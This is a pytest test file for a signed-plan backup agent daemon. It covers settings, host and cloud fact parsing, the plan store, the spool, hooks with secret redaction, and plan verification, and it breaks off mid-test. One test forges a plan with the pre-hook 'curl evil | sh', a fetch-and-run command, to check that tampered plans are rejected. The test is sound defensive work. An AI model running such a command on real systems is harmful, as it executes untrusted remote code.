"""The agent daemon's parts without a broker: settings, facts, plan store, spool, hooks, runs."""

from __future__ import annotations

import errno
import http.server
import json
import logging
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from agent import age, daemon, daemon_main, daemon_run
from agent.context import default_node, load_plan
from agent.daemon import Agent, Backoff, ensure_identity
from agent.daemon_run import describe_error
from agent.facts import (
    FactSources,
    cloud_facts,
    collect,
    metadata_service,
    os_from_release,
    parse_if_inet6,
    parse_instance_data,
    parse_ip_json,
    parse_openstack_meta,
    parse_os_release,
)
from agent.hooks import OUTPUT_LIMIT, redact, run_hook, run_hooks
from agent.planstore import PlanRejected, PlanStore
from agent.scheduler import Task, cron_window
from agent.spool import Spool
from agent.state import default_state_dir
from broker.agent_config import DEFAULT_METADATA_URL, AgentSettings, default_node_id
from broker.canonical import canonical_json
from broker.codec import decode, encode
from broker.errors import InvalidMessage
from broker.messages import Alert, Keepalive, RunResult, RunStatus, SignedPlan
from broker.plan import Hook, Plan
from broker.signing import TrustedKeys, generate_signing_key, public_pem, sign_plan, verify_plan

NODE = "web1"

# -- fixtures: files as real systems have them ---------------------------------------------

DEBIAN = """PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
"""
UBUNTU = """PRETTY_NAME="Ubuntu 24.04.1 LTS"
NAME="Ubuntu"
VERSION_ID="24.04"
ID=ubuntu
ID_LIKE=debian
"""
ROCKY = """NAME="Rocky Linux"
VERSION="9.4 (Blue Onyx)"
ID="rocky"
ID_LIKE="rhel centos fedora"
VERSION_ID="9.4"
"""
RHEL = 'NAME="Red Hat Enterprise Linux"\nID="rhel"\nID_LIKE="fedora"\nVERSION_ID="9.4"\n'
OPENSUSE = 'NAME="openSUSE Leap"\nVERSION="15.5"\nID="opensuse-leap"\nID_LIKE="suse opensuse"\n'
ALPINE = 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.20.3\n# a comment\n\n'

IP_JSON = json.dumps(
    [
        {
            "ifindex": 1,
            "ifname": "lo",
            "flags": ["LOOPBACK", "UP", "LOWER_UP"],
            "addr_info": [
                {"family": "inet", "local": "127.0.0.1", "prefixlen": 8, "scope": "host"},
                {"family": "inet6", "local": "::1", "prefixlen": 128, "scope": "host"},
            ],
        },
        {
            "ifindex": 2,
            "ifname": "ens3",
            "flags": ["BROADCAST", "MULTICAST", "UP", "LOWER_UP"],
            "addr_info": [
                {"family": "inet", "local": "10.0.0.5", "prefixlen": 24, "scope": "global"},
                {"family": "inet", "local": "10.0.0.99", "prefixlen": 24, "secondary": True,
                 "scope": "global"},
                {"family": "inet6", "local": "fd00::5", "prefixlen": 64, "scope": "global"},
                {"family": "inet6", "local": "fe80::f816:3eff:fe12:3456", "prefixlen": 64,
                 "scope": "link"},
            ],
        },
        {"ifindex": 3, "ifname": "ens4", "flags": ["BROADCAST"], "addr_info": []},
        {
            "ifindex": 4,
            "ifname": "docker0",
            "flags": ["NO-CARRIER", "UP"],
            "addr_info": [
                {"family": "inet", "local": "172.17.0.1", "prefixlen": 16, "scope": "global"}
            ],
        },
    ]
)  # fmt: skip

IF_INET6 = (
    "00000000000000000000000000000001 01 80 10 80       lo\n"
    "fd000000000000000000000000000005 02 40 00 80     ens3\n"
    "fe80000000000000f8163efffe123456 02 40 20 80     ens3\n"
)

SECRETS = ("s3cr3t-admin-pass", "ssh-rsa AAAAB3Nza", "random-seed-bytes")

OPENSTACK_META = {
    "uuid": "3f1c4e2a-0000-4000-8000-000000000001",
    "name": "web1",
    "hostname": "web1.novalocal",
    "availability_zone": "nova",
    "project_id": "a1b2c3",
    "launch_index": 0,
    "meta": {"role": "web", "tier": "frontend", "flavor": "m1.small"},
    "admin_pass": SECRETS[0],
    "public_keys": {"mykey": SECRETS[1]},
    "keys": [{"name": "mykey", "type": "ssh", "data": SECRETS[1]}],
    "random_seed": SECRETS[2],
    "devices": [],
}

INSTANCE_DATA = {
    "_beta_keys": ["subplatform"],
    "base64_encoded_keys": [],
    "ds": {
        "_doc": "EXPERIMENTAL: The structure and format of content scoped under the 'ds' key...",
        "ec2_metadata": {
            "ami-id": "ami-00000001",
            "instance-id": "i-00000001",
            "instance-type": "m1.small",
            "local-ipv4": "10.0.0.5",
        },
        "meta_data": {**OPENSTACK_META, "meta": {"role": "db"}},
    },
    "sensitive_keys": ["ds/meta_data/admin_pass"],
    "v1": {
        "availability-zone": "az1",
        "availability_zone": "az1",
        "cloud-name": "openstack",
        "cloud_name": "openstack",
        "distro": "debian",
        "instance-id": "3f1c4e2a-0000-4000-8000-000000000001",
        "instance_id": "3f1c4e2a-0000-4000-8000-000000000001",
        "local-hostname": "web1",
        "platform": "openstack",
        "public_ssh_keys": [SECRETS[1]],
        "region": None,
        "subplatform": "metadata (http://169.254.169.254)",
    },
}


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in list(os.environ):
        if name.startswith("MUSTER_"):
            monkeypatch.delenv(name)
    monkeypatch.setattr(AgentSettings, "default_file", tmp_path / "absent.yaml")


# -- settings ------------------------------------------------------------------------------


def test_settings_need_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    settings = AgentSettings.load()
    assert settings.broker_url == "amqp://muster/"
    assert settings.keepalive_interval == 20
    assert settings.metadata_url == DEFAULT_METADATA_URL
    assert settings.metadata_timeout <= 5
    assert settings.node == default_node()
    assert settings.state_dir == default_state_dir()
    assert settings.trusted_keys == []
    assert AgentSettings.default_file.name == "absent.yaml"  # normally /etc/muster/agent.yaml


@pytest.mark.parametrize(
    ("fqdn", "hostname"),
    [("localhost", "vm 7"), ("db2.example.org", "db2"), ("localhost.localdomain", "_x")],
)
def test_default_node_id_is_the_commands_default_node(
    monkeypatch: pytest.MonkeyPatch, fqdn: str, hostname: str
) -> None:
    monkeypatch.setattr(socket, "getfqdn", lambda: fqdn)
    monkeypatch.setattr(socket, "gethostname", lambda: hostname)
    assert default_node_id() == default_node()


def test_settings_from_file_environment_and_flags(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    config = tmp_path / "agent.yaml"
    config.write_text(
        "node: db1.example.org\nlabels: {tier: db}\ntrusted_keys: [/etc/muster/a.pub]\n"
        "keepalive_interval: 1m\nspool_max_files: 500\n"
    )
    settings = AgentSettings.load(config)
    assert (settings.node, settings.labels) == ("db1.example.org", {"tier": "db"})
    assert settings.trusted_keys == [Path("/etc/muster/a.pub")]
    assert (settings.keepalive_interval, settings.spool_max_files) == (60, 500)
    monkeypatch.setenv("MUSTER_LABELS", "tier=web, dc=ams")
    monkeypatch.setenv("MUSTER_TRUSTED_KEYS", "/k/a.pub,/k/b.pub")
    monkeypatch.setenv("MUSTER_METADATA_URL", "")
    settings = AgentSettings.load(config)
    assert settings.labels == {"tier": "web", "dc": "ams"}
    assert settings.trusted_keys == [Path("/k/a.pub"), Path("/k/b.pub")]
    assert settings.metadata_url is None
    monkeypatch.setenv("MUSTER_LABELS", '{"role": "web"}')
    monkeypatch.setenv("MUSTER_TRUSTED_KEYS", '["/k/c.pub"]')
    settings = AgentSettings.load(config, node="flag1", labels={"x": "y"})
    assert (settings.node, settings.labels) == ("flag1", {"x": "y"})
    assert settings.trusted_keys == [Path("/k/c.pub")]


def test_settings_errors_name_the_setting(tmp_path: Path) -> None:

    with pytest.raises(InvalidMessage, match="node"):
        AgentSettings.load(node="web 1")
    with pytest.raises(InvalidMessage, match="labels"):
        AgentSettings.load(labels="tier")
    with pytest.raises(InvalidMessage, match="keepalive_interval"):
        AgentSettings.load(keepalive_interval=0)


# -- facts ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "family", "name", "version"),
    [
        (DEBIAN, "debian", "Debian GNU/Linux", "12"),
        (UBUNTU, "debian", "Ubuntu", "24.04"),
        (ROCKY, "rhel", "Rocky Linux", "9.4"),
        (RHEL, "rhel", "Red Hat Enterprise Linux", "9.4"),
        (OPENSUSE, "suse", "openSUSE Leap", ""),
        (ALPINE, "alpine", "Alpine Linux", "3.20.3"),
    ],
)
def test_os_release(text: str, family: str, name: str, version: str) -> None:
    facts = os_from_release(parse_os_release(text), "6.1.0-26-amd64")
    assert (facts.family, facts.name, facts.version) == (family, name, version)
    assert facts.kernel == "6.1.0-26-amd64"


def test_os_release_quoting() -> None:
    values = parse_os_release('A="with \\"quotes\\" and \\$"\nB=\'single\'\nC=plain\nBROKEN="x\n')
    assert values == {"A": 'with "quotes" and $', "B": "single", "C": "plain", "BROKEN": '"x'}


def test_addresses_from_ip_json_leave_out_loopback_and_link_local() -> None:
    assert parse_ip_json(IP_JSON) == ["10.0.0.5/24", "10.0.0.99/24", "fd00::5/64", "172.17.0.1/16"]
    assert parse_ip_json("[]") == []


def test_addresses_from_proc_if_inet6() -> None:
    assert parse_if_inet6(IF_INET6) == ["fd00::5/64"]


def test_addresses_without_iproute2_come_from_the_kernel(tmp_path: Path) -> None:
    found = collect(_sources(tmp_path, ip_command=None)).addresses
    import ipaddress

    assert all(ipaddress.ip_interface(a) for a in found)
    assert not any(a.startswith("127.") or a == "::1/128" for a in found)
    with_ip = collect(_sources(tmp_path)).addresses
    assert {a for a in found if ":" not in a} <= set(with_ip)


def test_openstack_meta_data_keeps_only_named_fields() -> None:
    cloud = parse_openstack_meta(OPENSTACK_META)
    assert cloud.provider == "openstack"
    assert cloud.instance_id == OPENSTACK_META["uuid"]
    assert (cloud.project, cloud.availability_zone, cloud.flavor) == ("a1b2c3", "nova", "m1.small")
    assert cloud.metadata == {"role": "web", "tier": "frontend", "flavor": "m1.small"}
    text = cloud.model_dump_json()
    assert not any(secret in text for secret in SECRETS)


def test_cloud_init_instance_data() -> None:
    cloud = parse_instance_data(INSTANCE_DATA)
    assert cloud.provider == "openstack"
    assert cloud.availability_zone == "az1"
    assert cloud.instance_id == "3f1c4e2a-0000-4000-8000-000000000001"
    assert (cloud.project, cloud.flavor, cloud.image) == ("a1b2c3", "m1.small", "ami-00000001")
    assert cloud.metadata == {"role": "db"}
    assert not any(secret in cloud.model_dump_json() for secret in SECRETS)
    bare = parse_instance_data({"v1": {"cloud_name": "unknown", "instance_id": "iid-1"}})
    assert (bare.provider, bare.instance_id) == (None, "iid-1")


class _MetadataHandler(http.server.BaseHTTPRequestHandler):
    body = json.dumps(OPENSTACK_META).encode()
    delay = 0.0
    hits: list[str] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        time.sleep(self.delay)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def metadata_server() -> Iterator[tuple[str, type[_MetadataHandler]]]:
    handler = type("Handler", (_MetadataHandler,), {"hits": [], "delay": 0.0})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}/openstack/latest/meta_data.json"
    try:
        yield url, handler
    finally:
        server.shutdown()
        server.server_close()


def _sources(tmp_path: Path, **changes: object) -> FactSources:
    fields: dict = {
        "cloud_init_path": tmp_path / "no-instance-data.json",
        "config_drive_path": tmp_path / "no-config-drive",
        "metadata_url": None,
        **changes,
    }
    return FactSources(**fields)


def test_cloud_sources_in_order(tmp_path: Path, metadata_server) -> None:
    url, handler = metadata_server
    assert cloud_facts(_sources(tmp_path)).provider is None
    # the metadata service, when nothing local says anything
    service = cloud_facts(_sources(tmp_path, metadata_url=url))
    assert service.metadata["role"] == "web"
    assert handler.hits == ["/openstack/latest/meta_data.json"]
    # a config drive wins over the service
    drive = tmp_path / "config-2"
    (drive / "openstack" / "latest").mkdir(parents=True)
    meta = {**OPENSTACK_META, "meta": {"role": "drive"}}
    (drive / "openstack" / "latest" / "meta_data.json").write_text(json.dumps(meta))
    assert cloud_facts(_sources(tmp_path, metadata_url=url, config_drive_path=drive)).metadata == {
        "role": "drive"
    }
    # and cloud-init's instance data wins over both
    instance_data = tmp_path / "instance-data.json"
    instance_data.write_text(json.dumps(INSTANCE_DATA))
    both = cloud_facts(
        _sources(tmp_path, metadata_url=url, config_drive_path=drive, cloud_init_path=instance_data)
    )
    assert both.metadata == {"role": "db"}
    assert len(handler.hits) == 1


def test_metadata_service_times_out_quickly(metadata_server) -> None:
    url, handler = metadata_server
    handler.delay = 5
    began = time.monotonic()
    assert metadata_service(url, timeout=0.3).provider is None
    assert time.monotonic() - began < 2
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    assert metadata_service(f"http://127.0.0.1:{port}/", timeout=0.3).provider is None


def test_collect_gathers_everything_and_never_raises(tmp_path: Path, metadata_server) -> None:
    url, _ = metadata_server
    release = tmp_path / "os-release"
    release.write_text(UBUNTU)
    facts = collect(
        _sources(tmp_path, metadata_url=url, labels={"tier": "web"}, os_release=(release,))
    )
    assert facts.hostname == socket.gethostname().split(".")[0]
    assert facts.fqdn
    assert facts.os.family == "debian" and facts.os.kernel == os.uname().release
    assert facts.cloud.instance_id == OPENSTACK_META["uuid"]
    assert facts.labels == {"tier": "web"}
    broken = tmp_path / "broken.json"
    broken.write_text("{")
    odd = collect(
        _sources(tmp_path, ip_command="false", cloud_init_path=broken, os_release=(tmp_path,))
    )
    assert odd.cloud.provider is None and odd.os.name == ""


# -- identity ------------------------------------------------------------------------------


def test_identity_is_generated_once_private_and_kept(tmp_path: Path) -> None:
    state = tmp_path / "state"
    identity = ensure_identity(state)
    path = state / "identity.txt"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert ensure_identity(state) == identity
    assert age.load_identities(path) == [identity]


# -- plan store ----------------------------------------------------------------------------


@pytest.fixture
def signing(tmp_path: Path):
    key = generate_signing_key(tmp_path / "signing.pem")
    (tmp_path / "signing.pem.pub").write_bytes(public_pem(key.public_key()))
    return key


def plan_for(
    node: str = NODE, issued: datetime | None = None, paths=("/etc",), **job_fields
) -> Plan:
    return Plan.model_validate(
        {
            "node": node,
            "issued": issued or datetime.now(UTC),
            "jobs": [
                {
                    "name": "etc",
                    "storage": {"kind": "local", "path": "/srv/backup"},
                    "sources": {"paths": list(paths)},
                    "schedule": {"every": 3600},
                    **job_fields,
                }
            ],
        }
    )


def store(tmp_path: Path, signing) -> PlanStore:
    trusted = TrustedKeys([signing.public_key()])
    return PlanStore(tmp_path / "state", lambda signed: verify_plan(signed, trusted, NODE))


def test_plan_store_keeps_the_signed_message_privately_and_reloads_it(tmp_path, signing):
    plans = store(tmp_path, signing)
    assert plans.load() is None
    signed = sign_plan(plan_for(), signing)
    assert plans.offer(signed) is True
    assert stat.S_IMODE(plans.path.stat().st_mode) == 0o600
    assert [p.name for p in plans.path.parent.iterdir()] == ["plan.json"]  # no temp left
    assert store(tmp_path, signing).load() == signed.plan
    assert load_plan(plans.path) == signed.plan  # what `muster backup` reads
    assert plans.offer(signed) is False  # the same plan again: nothing changes


def test_plan_store_keeps_fields_it_does_not_know(tmp_path, signing):
    data = plan_for().model_dump(mode="json")
    data["jobs"][0]["future_field"] = {"x": 1}
    data["future_top"] = "yes"
    plan = Plan.model_validate(data)
    signed = sign_plan(plan, signing)
    wire = SignedPlan.model_validate_json(encode(signed))
    plans = store(tmp_path, signing)
    plans.offer(wire)
    reloaded = store(tmp_path, signing)
    assert reloaded.load() is not None
    assert reloaded.current.signed_body == canonical_json(data)


def test_plan_store_refuses_forged_foreign_unknown_and_older_plans(tmp_path, signing):
    plans = store(tmp_path, signing)
    now = datetime.now(UTC)
    good = sign_plan(plan_for(issued=now), signing)
    plans.offer(good)
    kept = plans.path.read_bytes()

    tampered = json.loads(encode(sign_plan(plan_for(issued=now + timedelta(seconds=1)), signing)))
    tampered["plan"]["jobs"][0]["sources"]["paths"] = ["/"]
    with pytest.raises(PlanRejected, match="altered or forged"):
        plans.offer(SignedPlan.model_validate(tampered))

    other = generate_signing_key(tmp_path / "other.pem")
    with pytest.raises(PlanRejected, match="unknown key"):
        plans.offer(sign_plan(plan_for(issued=now + timedelta(seconds=2)), other))

    with pytest.raises(PlanRejected, match="not for this node"):
        plans.offer(sign_plan(plan_for("db1", issued=now + timedelta(seconds=3)), signing))

    with pytest.raises(PlanRejected, match="older than the plan held"):
        plans.offer(sign_plan(plan_for(issued=now - timedelta(seconds=1), paths=["/"]), signing))

    assert plans.path.read_bytes() == kept
    assert plans.plan == good.plan
    newer = sign_plan(plan_for(issued=now + timedelta(seconds=5), paths=["/srv"]), signing)
    assert plans.offer(newer) is True
    assert store(tmp_path, signing).load() == newer.plan


def test_a_stored_plan_that_no_longer_verifies_is_not_run(tmp_path, signing):
    store(tmp_path, signing).offer(sign_plan(plan_for(), signing))
    other = generate_signing_key(tmp_path / "rotated.pem")
    with pytest.raises(PlanRejected, match="no longer verifies"):
        rotated = TrustedKeys([other.public_key()])
        PlanStore(tmp_path / "state", lambda signed: verify_plan(signed, rotated, NODE)).load()
    path = tmp_path / "state" / "plan.json"
    data = json.loads(path.read_text())
    data["plan"]["jobs"][0]["sources"]["paths"] = ["/"]
    path.write_text(json.dumps(data))
    with pytest.raises(PlanRejected, match="altered or forged"):
        store(tmp_path, signing).load()
    path.write_text("{half")
    with pytest.raises(PlanRejected, match="unreadable"):
        store(tmp_path, signing).load()


def test_plan_store_write_is_atomic(tmp_path, signing, monkeypatch):
    plans = store(tmp_path, signing)
    first = sign_plan(plan_for(), signing)
    plans.offer(first)
    before = plans.path.read_bytes()

    def crash(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", crash)
    with pytest.raises(OSError, match="No space"):
        plans.offer(sign_plan(plan_for(paths=["/srv"]), signing))
    monkeypatch.undo()
    assert plans.path.read_bytes() == before
    assert [p.name for p in plans.path.parent.iterdir()] == ["plan.json"]
    assert store(tmp_path, signing).load() == first.plan


# -- spool ---------------------------------------------------------------------------------


def result(job: str = "etc", status: str = "success") -> RunResult:
    now = datetime.now(UTC)
    return RunResult(
        node=NODE, job=job, run_id="r", kind="backup", status=status, started=now, finished=now
    )


def progress(files: int = 0) -> RunStatus:
    return RunStatus(node=NODE, job="etc", run_id="r", kind="backup", files_done=files)


def test_spool_delivers_oldest_first_across_restarts(tmp_path: Path) -> None:
    spool = Spool(tmp_path / "spool")
    sent = [result(status="success"), progress(3), result(status="failure")]
    for message in sent:
        spool.add(message)
    files = sorted((tmp_path / "spool").iterdir())
    assert [f.name.split("-", 1)[1] for f in files] == [f"{m.type}-{m.id}.json" for m in sent]
    assert all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
    (tmp_path / "spool" / ".tmp-crashed.json").write_bytes(b"{")

    again = Spool(tmp_path / "spool")  # a restart
    assert again.changed.is_set()
    assert not (tmp_path / "spool" / ".tmp-crashed.json").exists()
    later = result(job="var")
    again.add(later)
    pending = again.pending()
    assert [e.id for e in pending] == [m.id for m in [*sent, later]]
    assert again.read(pending[0]) == sent[0]
    again.remove(pending[0])
    assert len(again) == 3 and next(e.id for e in again.pending()) == sent[1].id
    assert len(list((tmp_path / "spool").iterdir())) == 3


def test_spool_bound_drops_progress_first_then_results_loudly(tmp_path, caplog):
    spool = Spool(tmp_path / "spool", max_files=10)
    results = [result(job=f"j{i}") for i in range(4)]
    spool.add(results[0])
    for i in range(20):
        spool.add(progress(i))
    for message in results[1:]:
        spool.add(message)
    pending = spool.pending()
    assert len(pending) == 10
    assert [e.id for e in pending if e.type == "run_result"] == [m.id for m in results]
    statuses = [spool.read(e).files_done for e in pending if e.type == "run_status"]
    assert statuses == list(range(14, 20))  # the newest progress survives
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]

    more = [result(job=f"k{i}") for i in range(12)]
    with caplog.at_level(logging.ERROR):
        for message in more:
            spool.add(message)
    pending = spool.pending()
    assert len(pending) == 10 and all(e.type == "run_result" for e in pending)
    assert [e.id for e in pending] == [m.id for m in more[2:]]
    lost = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
    assert len(lost) == 6 and all("DROPPED run_result" in line for line in lost)
    assert results[0].id in lost[0]
    assert len(list((tmp_path / "spool").iterdir())) == 10


def test_spool_bound_in_bytes(tmp_path: Path) -> None:
    one = len(encode(progress(0)))
    spool = Spool(tmp_path / "spool", max_bytes=one * 5 + 10)
    for i in range(9):
        spool.add(progress(i))
    assert len(spool) == 5 and spool.size <= one * 5 + 10


def test_spool_sets_aside_what_it_cannot_read(tmp_path: Path, caplog) -> None:
    spool = Spool(tmp_path / "spool")
    entry = spool.add(result())
    entry.path.write_text("{broken")
    with caplog.at_level(logging.ERROR):
        assert spool.read(entry) is None
    assert len(spool) == 0
    assert entry.path.with_name(entry.path.name + ".bad").exists()
    assert "set aside" in caplog.text


# -- hooks ---------------------------------------------------------------------------------


def test_hook_output_exit_code_and_environment() -> None:
    ok = run_hook(Hook(command="echo out; echo err >&2; echo $MUSTER_JOB"), {"MUSTER_JOB": "etc"})
    assert (ok.exit_code, ok.output) == (0, "out\nerr\netc\n")
    assert ok.duration >= 0
    failed = run_hook(Hook(command=["/bin/sh", "-c", "exit 3"]))
    assert failed.exit_code == 3
    missing = run_hook(Hook(command=["/nonexistent/tool"]))
    assert missing.exit_code == 127 and "cannot start" in missing.output


def test_hook_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    pid_file = tmp_path / "child.pid"
    began = time.monotonic()
    hook = Hook(command=f"sleep 60 & echo $! > {pid_file}; echo started; wait", timeout=1)
    found = run_hook(hook)
    assert time.monotonic() - began < 5
    assert found.exit_code is None
    assert found.output.startswith("started\n") and "timed out after 1 s" in found.output
    child = int(pid_file.read_text())
    time.sleep(0.2)
    assert not _alive(child)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stat_file:
            return stat_file.read().split(") ", 1)[1][0] != "Z"
    except FileNotFoundError:
        return False


def test_hook_stops_when_the_agent_stops() -> None:
    stop = threading.Event()
    threading.Timer(0.3, stop.set).start()
    began = time.monotonic()
    found = run_hook(Hook(command="sleep 30", timeout=60), stop=stop)
    assert time.monotonic() - began < 5
    assert found.exit_code is None and "shutting down" in found.output


def test_hook_output_is_truncated_and_scrubbed() -> None:
    found = run_hook(
        Hook(
            command="echo AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGP; "
            "echo password=hunter2; echo https://bob:pw@example.org/x; "
            "head -c 200000 /dev/zero | tr '\\0' x; echo; echo the end"
        )
    )
    assert len(found.output) <= OUTPUT_LIMIT + 100
    assert "hunter2" not in found.output and "bob:pw" not in found.output
    assert "QYQSZQGP" not in found.output
    assert found.output.rstrip().endswith("the end")
    assert "characters cut" in found.output


def test_pre_hooks_stop_at_the_first_failure_post_hooks_all_run() -> None:
    hooks = [Hook(command="true"), Hook(command="exit 2"), Hook(command="echo never")]
    results, failure = run_hooks(hooks)
    assert [r.exit_code for r in results] == [0, 2]
    assert failure == "hook `exit 2` exited with status 2"
    results, failure = run_hooks(hooks, stop_on_failure=False)
    assert [r.exit_code for r in results] == [0, 2, 0]


def test_redact() -> None:
    text = redact("amqp://guest:guest@h//; OS_PASSWORD=abc; token: xyz; a token expired")
    assert "guest:guest" not in text and "abc" not in text and "xyz" not in text
    assert "a token expired" in text


def test_errors_in_results_carry_no_secret() -> None:
    error = RuntimeError("auth failed for https://u:secretpw@keystone/v3 password=secretpw")
    assert "secretpw" not in describe_error(error)
    assert describe_error(FileNotFoundError(2, "No such file", "/x")) == "/x: No such file"
    assert len(describe_error(ValueError("x" * 10_000))) <= 2000


def test_backoff_grows_to_its_maximum() -> None:
    backoff = Backoff(0.5, 8)
    delays = [backoff.next() for _ in range(8)]
    assert 0.4 <= delays[0] <= 0.6
    assert all(6.4 <= d <= 9.6 for d in delays[5:])
    backoff.reset()
    assert backoff.next() <= 0.6


# -- the agent, without a broker -----------------------------------------------------------


@pytest.fixture
def source(tmp_path: Path) -> Path:
    root = tmp_path / "source"
    (root / "sub").mkdir(parents=True)
    (root / "a.txt").write_text("hello\n")
    (root / "sub" / "b.bin").write_bytes(os.urandom(300_000))
    return root


def make_agent(tmp_path: Path, signing, isolated_runs: bool = False, **settings) -> Agent:
    fields = {
        "node": NODE,
        "state_dir": tmp_path / "state",
        "trusted_keys": [tmp_path / "signing.pem.pub"],
        "metadata_url": None,
        "cloud_init_path": tmp_path / "none",
        "config_drive_path": tmp_path / "none",
        "status_interval": 0,
        **settings,
    }
    return Agent(AgentSettings(**fields), isolated_runs=isolated_runs)


def backup_plan(tmp_path: Path, source: Path, issued: datetime | None = None, **job) -> Plan:
    return Plan.model_validate(
        {
            "node": NODE,
            "issued": issued or datetime.now(UTC),
            "jobs": [
                {
                    "name": "src",
                    "storage": {"kind": "local", "path": str(tmp_path / "target")},
                    "sources": {"paths": [str(source)]},
                    "schedule": {"every": 2},
                    **job,
                }
            ],
        }
    )


def spooled(agent: Agent, kind: type) -> list:
    found = [agent.spool.read(entry) for entry in agent.spool.pending()]
    return [m for m in found if isinstance(m, kind)]


def snapshots(tmp_path: Path) -> list[str]:
    folder = tmp_path / "target" / NODE / "src" / "snapshots"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def test_announce_and_keepalive_carry_facts_and_only_the_public_key(tmp_path, signing):
    agent = make_agent(tmp_path, signing, labels={"tier": "web"})
    announce = agent.announce()
    identity = ensure_identity(agent.state_dir)
    assert announce.recipient == str(identity.recipient)
    assert announce.facts.labels == {"tier": "web"} and announce.plan_hash is None
    assert announce.agent_version
    keepalive = agent.keepalive()
    assert isinstance(keepalive, Keepalive)
    assert keepalive.facts == announce.facts
    assert (keepalive.interval, keepalive.running) == (20, [])
    secret = str(identity)
    assert secret not in encode(announce).decode() and secret not in encode(keepalive).decode()


def test_facts_it_cannot_collect_again_leave_the_last_ones(tmp_path, signing, monkeypatch):
    """The daemon collects facts in a child: a fork refused keeps the facts held (the
    keepalive still goes); with none held yet, the error is the announce's."""
    agent = make_agent(tmp_path, signing, labels={"tier": "web"})
    held = agent.facts()

    def refused(settings: AgentSettings) -> None:
        raise OSError(errno.EAGAIN, "fork refused")

    monkeypatch.setattr(daemon, "node_facts", refused)
    assert agent.facts(refresh=True) == held
    assert agent.keepalive().facts == held
    other = make_agent(tmp_path, signing, state_dir=tmp_path / "other")
    with pytest.raises(OSError):
        other.facts()


def test_received_plans_are_verified_stored_and_followed(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source)
    assert agent.receive_plan(encode(sign_plan(plan, signing))) == "accepted"
    assert agent.plans.plan == plan and agent.plan_hash == plan.content_hash()
    assert agent.keepalive().plan_hash == plan.content_hash()
    assert agent.scheduler.job("src") is not None
    assert agent.receive_plan(encode(sign_plan(plan, signing))) == "unchanged"
    assert spooled(agent, Alert) == []


def test_refused_plans_raise_alerts_and_the_held_plan_stays(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    now = datetime.now(UTC)
    good = backup_plan(tmp_path, source, issued=now)
    agent.receive_plan(encode(sign_plan(good, signing)))
    forged = json.loads(encode(sign_plan(backup_plan(tmp_path, source, issued=now), signing)))
    forged["plan"]["jobs"][0]["hooks"] = {"pre": [{"command": "curl evil | sh"}]}
    unsigned = {k: v for k, v in forged.items() if k != "signature"}
    other_node = sign_plan(
        backup_plan(tmp_path, source).model_copy(update={"node": "db1"}), signing
    )
    older = sign_plan(backup_plan(tmp_path, source, now - timedelta(hours=1)), signing)
    bodies = [
        json.dumps(forged).encode(),
        json.dumps(unsigned).encode(),
        encode(other_node),
        encode(older),
        b"not json",
    ]
    assert [agent.receive_plan(body) for body in bodies] == [
        "rejected",
        "invalid",
        "rejected",
        "rejected",
        "invalid",
    ]
    alerts = spooled(agent, Alert)
    assert len(alerts) == 5
    assert {(a.kind, a.source, a.state, a.node) for a in alerts} == {
        ("plan_rejected", "agent", "open", NODE)
    }
    assert "forged" in alerts[0].summary and "signature" in alerts[1].summary
    assert "not for this node" in alerts[2].summary and "older" in alerts[3].summary
    assert agent.plans.plan == good
    assert Agent(agent.settings).plans.plan == good  # also on disk
    newer = backup_plan(tmp_path, source, issued=now + timedelta(seconds=1), full_every=2)
    assert agent.receive_plan(encode(sign_plan(newer, signing))) == "accepted"
    assert spooled(agent, Alert)[-1].state == "resolved"


def test_a_restarted_agent_follows_its_stored_plan_at_once(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(tmp_path, source)
    agent.receive_plan(encode(sign_plan(plan, signing)))
    clock_now = [datetime.now(UTC) + timedelta(seconds=5)]
    again = Agent(agent.settings, clock=lambda: clock_now[0])
    assert again.plans.plan == plan
    assert [t.job for t in again.scheduler.due()] == ["src"]


def test_a_stored_plan_signed_by_a_withdrawn_key_raises_an_alert(tmp_path, signing, source):
    agent = make_agent(tmp_path, signing)
    agent.receive_plan(encode(sign_plan(backup_plan(tmp_path, source), signing)))
    other = generate_signing_key(tmp_path / "new.pem")
    (tmp_path / "new.pem.pub").write_bytes(public_pem(other.public_key()))
    again = make_agent(tmp_path, signing, trusted_keys=[tmp_path / "new.pem.pub"])
    assert again.plans.plan is None and again.scheduler.due() == []
    assert "no longer verifies" in spooled(again, Alert)[-1].summary


def test_a_backup_run_reports_progress_and_a_result_then_applies_retention(
    tmp_path, signing, source
):
    agent = make_agent(tmp_path, signing)
    plan = backup_plan(
        tmp_path,
        source,
        retention={"keep_last": 1},
